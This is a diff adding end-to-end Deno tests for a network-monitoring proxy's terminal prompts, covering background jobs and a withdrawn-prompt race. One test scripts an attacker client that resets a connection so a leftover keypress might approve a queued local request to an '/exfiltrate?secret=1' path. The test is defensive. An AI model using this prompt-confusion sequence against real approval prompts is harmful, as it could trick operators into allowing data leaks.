@@ -605,3 +605,322 @@ Deno.test({
     await origin.close();
   },
 });
+
+/** The command line that starts `netmonitor run` from a shell, quoted for it. */
+function shellRun(dir: string, args: string[]): string {
+  const q = (s: string) => `'${s.replaceAll("'", `'\\''`)}'`;
+  return [
+    `NETMONITOR_DATA_DIR=${q(dir)}`,
+    "NO_COLOR=1",
+    q(Deno.execPath()),
+    "run",
+    "-A",
+    "--no-check",
+    q(new URL("../../main.ts", import.meta.url).pathname),
+    "run",
+    "--port",
+    "0",
+    "--no-intercept",
+    ...args.map(q),
+  ].join(" ");
+}
+
+/** The process state letter from /proc/PID/stat (T: stopped), or undefined once it is gone. */
+async function procState(pid: number): Promise<string | undefined> {
+  try {
+    const stat = await Deno.readTextFile(`/proc/${pid}/stat`);
+    return stat.slice(stat.lastIndexOf(")") + 1).trim().split(" ")[0];
+  } catch {
+    return undefined;
+  }
+}
+
+/** Ends a proxy this test started in a shell: continued, SIGTERM, then SIGKILL after 10 s. */
+async function endProxy(pid: number): Promise<void> {
+  for (const sig of ["SIGCONT", "SIGTERM"] as const) {
+    try {
+      Deno.kill(pid, sig);
+    } catch { /* gone */ }
+  }
+  const deadline = Date.now() + 10_000;
+  while (Date.now() < deadline) {
+    const state = await procState(pid);
+    if (state === undefined || state === "Z") return;
+    await new Promise((r) => setTimeout(r, 100));
+  }
+  try {
+    Deno.kill(pid, "SIGKILL");
+  } catch { /* gone */ }
+}
+
+/** The pid of the one proxy running for `dir`, from `netmonitor status --json`. */
+async function proxyPid(dir: string): Promise<number> {
+  const r = await runCli(["status", "--json"], { dataDir: dir });
+  assert.equal(r.code, 0, r.stdout + r.stderr);
+  const { proxies } = JSON.parse(r.stdout) as { proxies: { pid: number; prompts: boolean }[] };
+  assert.equal(proxies.length, 1);
+  assert.equal(proxies[0].prompts, true, "it still prompts (through the socket)");
+  return proxies[0].pid;
+}
+
+const onLinuxTty = noCurl || !has("tmux") || !has("bash") || Deno.build.os !== "linux";
+
+Deno.test({
+  name:
+    "e2e run: started in the background of a shell (`run &`), it asks through the socket instead of stopping",
+  ignore: onLinuxTty,
+  async fn() {
+    const { TmuxSession } = await import("./_tmux.ts");
+    const origin = await startOrigin();
+    await withDataDir(async (dir) => {
+      const p = origin.port;
+      // An interactive shell with job control: `&` puts the job in the background.
+      await using tty = await TmuxSession.start({
+        cmd: ["bash", "--norc", "--noprofile", "-i"],
+        cwd: dir,
+        env: { PS1: "$ " },
+      });
+      await tty.waitFor(/\$ $/m);
+      await tty.type(
+        shellRun(dir, ["--resolve", `bg.test:${p}:127.0.0.1`, "--prompt-timeout", "1s"]) + " &",
+      );
+      await tty.press("Enter");
+      const screen = await tty.waitFor(/Listening on http:\/\/127\.0\.0\.1:(\d+)/);
+      const port = Number(screen.match(/Listening on http:\/\/127\.0\.0\.1:(\d+)/)![1]);
+      const pid = await proxyPid(dir);
+      try {
+        // A request no rule covers: nobody answers, so it is denied after 1 s.
+        const r = await curl(port, ["-w", " %{http_code}", `http://bg.test:${p}/unknown`]);
+        assert.notEqual(await procState(pid), "T", "not stopped by SIGTTOU/SIGTTIN");
+        assert.match(r.stdout, / 403$/, r.stderr);
+        assert.match(r.stdout, /no answer within 1s/);
+        await tty.waitFor(/DENY\s+GET\s+403 http:\/\/bg\.test:\d+\/unknown\s.*no answer within 1s/);
+        // It asked through the socket, and said where to answer.
+        const text = await tty.screen();
+        assert.match(
+          text,
+          /warning: started in the background of this terminal, so requests are not asked here .*answer them with `netmonitor prompt` in another terminal/,
+        );
+        assert.match(text, /Unknown requests: asking `netmonitor prompt` clients, deny after 1s\./);
+        assert.match(text, /Waiting for an answer about bg\.test:\d+: no prompt is attached/);
+        // Still serving, still not stopped.
+        const again = await curl(port, [
+          "-w",
+          "%{http_code}",
+          "-o",
+          "/dev/null",
+          `http://bg.test:${p}/`,
+        ]);
+        assert.equal(again.stdout, "403");
+        assert.notEqual(await procState(pid), "T");
+        assert.doesNotMatch(await tty.screen(), /Stopped/);
+      } finally {
+        await endProxy(pid);
+      }
+      const recs = (await Deno.readTextFile(join(dir, "network-access.log"))).trim().split("\n")
+        .map((l) => JSON.parse(l));
+      assert.deepEqual(recs.map((r) => [r.host, r.decision, r.source]), [
+        ["bg.test", "deny", "timeout"],
+        ["bg.test", "deny", "timeout"],
+      ]);
+    });
+    await origin.close();
+  },
+});
+
+Deno.test({
+  name:
+    "e2e run: put in the background after it asked (Ctrl-Z, bg), it keeps serving; `fg` asks again",
+  ignore: onLinuxTty,
+  async fn() {
+    const { TmuxSession } = await import("./_tmux.ts");
+    const origin = await startOrigin();
+    await withDataDir(async (dir) => {
+      const p = origin.port;
+      await using tty = await TmuxSession.start({
+        cmd: ["bash", "--norc", "--noprofile", "-i"],
+        cwd: dir,
+        env: { PS1: "$ " },
+      });
+      await tty.waitFor(/\$ $/m);
+      await tty.type(shellRun(dir, ["--resolve", `job.test:${p}:127.0.0.1`]));
+      await tty.press("Enter");
+      const screen = await tty.waitFor(/Listening on http:\/\/127\.0\.0\.1:(\d+)/);
+      const port = Number(screen.match(/Listening on http:\/\/127\.0\.0\.1:(\d+)/)![1]);
+      const pid = await proxyPid(dir);
+      let prompt: Deno.ChildProcess | undefined;
+      try {
+        // Asked on the terminal: the reader is now reading it, in raw mode.
+        const first = curl(port, ["-w", " %{http_code}", `http://job.test:${p}/first`]);
+        await tty.waitFor(/Path: \/first\n[^]*Your choice \[1\]:/);
+        await new Promise((r) => setTimeout(r, 600));
+        await tty.type("2");
+        await tty.press("Enter");
+        assert.match((await first).stdout, / 403$/);
+        // Ctrl-Z, then bg: the read that was waiting on the terminal must not stop it.
+        await tty.press("C-z");
+        await tty.waitFor(/Stopped/);
+        await tty.type("bg");
+        await tty.press("Enter");
+        await tty.waitFor(/\$ bg\n/);
+        await new Promise((r) => setTimeout(r, 500));
+        assert.notEqual(await procState(pid), "T", "bg: running, not stopped by SIGTTIN");
+        // A request now: no prompt on the terminal, one line saying why; the socket answers.
+        const second = curl(port, ["-w", " %{http_code}", `http://job.test:${p}/second`]);
+        await tty.waitFor(
+          /Waiting for an answer about job\.test:\d+: this process is in the background/,
+        );
+        assert.notEqual(await procState(pid), "T");
+        prompt = cliCommand(["prompt"], { dataDir: dir }, { stdin: "piped" }).spawn();
+        const w = prompt.stdin.getWriter();
+        await w.write(new TextEncoder().encode("2\n"));
+        assert.match((await second).stdout, / 403$/);
+        await w.close();
+        assert.notEqual(await procState(pid), "T");
+        // Back in front: the terminal asks again, in raw mode (Backspace edits).
+        await tty.type("fg");
+        await tty.press("Enter");
+        await tty.waitFor(/\nfg\n/);
+        await new Promise((r) => setTimeout(r, 500));
+        const third = curl(port, ["-w", " %{http_code}", `http://job.test:${p}/third`]);
+        await tty.waitFor(/Path: \/third\n[^]*Your choice \[1\]:/);
+        await new Promise((r) => setTimeout(r, 600));
+        await tty.type("1");
+        await tty.press("BSpace");
+        await tty.type("2");
+        await tty.press("Enter");
+        assert.match((await third).stdout, / 403$/);
+        await tty.press("C-c");
+        await tty.waitFor(/\nStopped\.\n/);
+      } finally {
+        if (prompt) {
+          try {
+            prompt.kill("SIGTERM");
+          } catch { /* exited */ }
+          await prompt.output().catch(() => {});
+        }
+        await endProxy(pid);
+      }
+      const recs = (await Deno.readTextFile(join(dir, "network-access.log"))).trim().split("\n")
+        .map((l) => JSON.parse(l));
+      assert.deepEqual(recs.map((r) => [r.decision, r.source]), [
+        ["deny", "prompt"],
+        ["deny", "prompt"],
+        ["deny", "prompt"],
+      ]);
+    });
+    await origin.close();
+  },
+});
+
+Deno.test({
+  name:
+    "e2e run: on a terminal, a half-typed answer to a withdrawn prompt does not let a later Enter allow the next",
+  ignore: noCurl || !has("tmux"),
+  async fn() {
+    const { TmuxSession } = await import("./_tmux.ts");
+    const origin = await startOrigin();
+    await withDataDir(async (dir) => {
+      const p = origin.port;
+      await Deno.writeTextFile(rulesFile(dir), '{ "ok.test": "allow-domain" }');
+      await using tty = await TmuxSession.start({
+        cmd: [
+          Deno.execPath(),
+          "run",
+          "-A",
+          "--no-check",
+          new URL("../../main.ts", import.meta.url).pathname,
+          "run",
+          "--port",
+          "0",
+          "--no-intercept",
+          "--resolve",
+          `ok.test:${p}:127.0.0.1`,
+          "--resolve",
+          `a.test:${p}:127.0.0.1`,
+          "--resolve",
+          `b.test:${p}:127.0.0.1`,
+        ],
+        cwd: dir,
+        env: { NETMONITOR_DATA_DIR: dir, NO_COLOR: "1" },
+      });
+      const screen = await tty.waitFor(/Listening on http:\/\/127\.0\.0\.1:(\d+)/);
+      const port = Number(screen.match(/Listening on http:\/\/127\.0\.0\.1:(\d+)/)![1]);
+      // The attacker's client: a harmless request, and the one it wants allowed
+      // queued behind. The harmless one follows a response left unread, so
+      // that when the client is killed its connection is reset (RST).
+      const script = join(dir, "attacker.ts");
+      await Deno.writeTextFile(
+        script,
+        `const c = await Deno.connect({ hostname: "127.0.0.1", port: ${port} });
+const enc = new TextEncoder();
+await c.write(enc.encode("GET http://ok.test:${p}/hello HTTP/1.1\\r\\nHost: ok.test:${p}\\r\\n\\r\\n"));
+await new Promise((r) => setTimeout(r, 300));
+await c.write(enc.encode("GET http://a.test:${p}/harmless HTTP/1.1\\r\\nHost: a.test:${p}\\r\\n\\r\\n"));
+await new Promise((r) => setTimeout(r, 60_000));
+`,
+      );
+      const harmless = new Deno.Command(Deno.execPath(), {
+        args: ["run", "--allow-net=127.0.0.1", script],
+        stdout: "null",
+        stderr: "null",
+      }).spawn();
+      try {
+        await attackedPrompt(tty, harmless, port, p);
+      } finally {
+        try {
+          harmless.kill("SIGKILL");
+        } catch { /* already killed */ }
+        await harmless.status;
+      }
+      assert.equal(origin.requests.some((q) => q.path.startsWith("/exfiltrate")), false);
+    });
+    await origin.close();
+  },
+});
+
+/** The review's repro, on the terminal of the test above: see there. */
+async function attackedPrompt(
+  tty: import("./_tmux.ts").TmuxSession,
+  harmless: Deno.ChildProcess,
+  port: number,
+  p: number,
+): Promise<void> {
+  await tty.waitFor(/Host: a\.test:\d+\n[^]*Your choice \[1\]:/);
+  const exfiltrate = curl(port, [
+    "-w",
+    " %{http_code}",
+    `http://b.test:${p}/exfiltrate?secret=1`,
+  ]);
+  let settled = false;
+  exfiltrate.finally(() => settled = true);
+  await new Promise((r) => setTimeout(r, 600));
+  // The operator types 2 (deny) for a.test; 0.1 s later the attacker resets
+  // the a.test connection, so that prompt is withdrawn and b.test's shown.
+  await tty.type("2");
+  const typedAt = Date.now();
+  await new Promise((r) => setTimeout(r, 100));
+  harmless.kill("SIGKILL");
+  const shown = await tty.waitFor(/Host: b\.test:\d+\n[^]*Your choice \[1\]:/);
+  // The operator's Enter, at least 0.7 s after the 2 and past the 0.4 s input guard.
+  const guardEnds = Date.now() + 450;
+  await new Promise((r) => setTimeout(r, Math.max(typedAt + 700, guardEnds) - Date.now()));
+  await tty.press("Enter");
+  await new Promise((r) => setTimeout(r, 500));
+  assert.equal(settled, false, "b.test was not allowed by the leftover Enter");
+  assert.match(
+    shown,
+    /Prompt closed: request withdrawn[^\n]*\nInput discarded: the prompt it was for closed\./,
+  );
+  await tty.waitFor("(input discarded: it was begun before this request appeared");
+  assert.doesNotMatch(await tty.screen(), /ALLOW GET\s+200 http:\/\/b\.test/);
+  // A fresh answer for b.test counts.
+  await tty.type("2");
+  await tty.press("Enter");
+  const r = await exfiltrate;
+  assert.match(r.stdout, / 403$/);
+  assert.match(r.stdout, /prompt: deny-once/);
+  await tty.waitFor(/DENY\s+GET\s+403 http:\/\/b\.test:\d+\/exfiltrate/);
+  await tty.press("C-c");
+  assert.equal(await tty.exitCode(), 0);
+}
